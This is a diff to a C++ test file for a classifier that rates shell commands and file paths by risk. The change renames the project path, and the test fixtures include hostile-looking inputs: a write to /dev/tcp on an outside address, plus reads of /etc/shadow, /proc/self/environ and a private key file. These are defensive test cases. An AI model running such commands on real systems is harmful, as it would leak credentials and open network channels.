@@ -20,7 +20,7 @@ void PrintTo(const Command& command, std::ostream* out) {
 class ClassifyShell : public testing::TestWithParam<Command> {};
 
 TEST_P(ClassifyShell, ByTheWorstItCouldDo) {
-  const PathContext here{"/work/app", {"/work/app"}};
+  const PathContext here{"/srv/app", {"/srv/app"}};
   const ShellClass classed = classify_shell(GetParam().text, here);
   EXPECT_EQ(to_string(classed.effect), to_string(GetParam().effect)) << classed.reason;
   EXPECT_THAT(classed.reason, HasSubstr(GetParam().reason));
@@ -67,7 +67,7 @@ INSTANTIATE_TEST_SUITE_P(
                     Command{"cat > a.txt <<EOF\nhello\nEOF", kWrite},
                     Command{"ls | tee list.txt", kWrite}, Command{"cd src && touch a", kWrite},
                     Command{"curl -sSL https://example.com/a", kWrite, "network"},
-                    Command{"echo x >/work/app/../app/y", kWrite}));
+                    Command{"echo x >/srv/app/../app/y", kWrite}));
 
 INSTANTIATE_TEST_SUITE_P(
     Destructive, ClassifyShell,
@@ -151,7 +151,7 @@ INSTANTIATE_TEST_SUITE_P(
         Command{"{a,b} c", kIrreversible}, Command{"echo > /dev/tcp/1.2.3.4/80", kIrreversible}));
 
 TEST(ClassifyShell, DeepNestingEndsInsteadOfTheProcess) {
-  const PathContext here{"/work/app", {"/work/app"}};
+  const PathContext here{"/srv/app", {"/srv/app"}};
   for (const std::string open :
        {"(", "$(", "`", "{ ", "\"$(", "${x:-", "if ", "! ", "<(", "eval "}) {
     std::string text;
@@ -162,22 +162,22 @@ TEST(ClassifyShell, DeepNestingEndsInsteadOfTheProcess) {
 
 TEST(ClassifyShell, WithoutAProjectNothingIsInside) {
   EXPECT_EQ(classify_shell("touch a", {}).effect, Effect::destructive);
-  EXPECT_EQ(classify_shell("touch /work/app/a", {"", {"/work/app"}}).effect, Effect::destructive);
+  EXPECT_EQ(classify_shell("touch /srv/app/a", {"", {"/srv/app"}}).effect, Effect::destructive);
   EXPECT_EQ(classify_shell("ls -l", {}).effect, Effect::read);
 }
 
 TEST(ClassifyPath, ByWhereItLies) {
-  const PathContext here{"/work/app", {"/work/app/src"}};
+  const PathContext here{"/srv/app", {"/srv/app/src"}};
   const auto effect = [&](std::string_view path, Access access) {
     return std::string(to_string(classify_path(path, access, here).effect));
   };
   EXPECT_EQ(effect("main.cpp", Access::write), "write");
   EXPECT_EQ(effect("../README.md", Access::write), "write");
   EXPECT_EQ(effect("../../app2/x", Access::write), "destructive");
-  EXPECT_EQ(effect("/work/app2/x", Access::write), "destructive") << "a name that begins alike";
+  EXPECT_EQ(effect("/srv/app2/x", Access::write), "destructive") << "a name that begins alike";
   EXPECT_EQ(effect("/etc/hosts", Access::read), "read");
   EXPECT_EQ(effect("/etc/shadow", Access::read), "destructive");
-  EXPECT_EQ(effect("/work/app/KEYS/Server.PEM", Access::read), "destructive");
+  EXPECT_EQ(effect("/srv/app/KEYS/Server.PEM", Access::read), "destructive");
   EXPECT_EQ(effect("/proc/self/environ", Access::read), "destructive");
   EXPECT_EQ(effect("~/x", Access::write), "destructive");
   EXPECT_EQ(effect("/home/me", Access::read_all), "destructive");
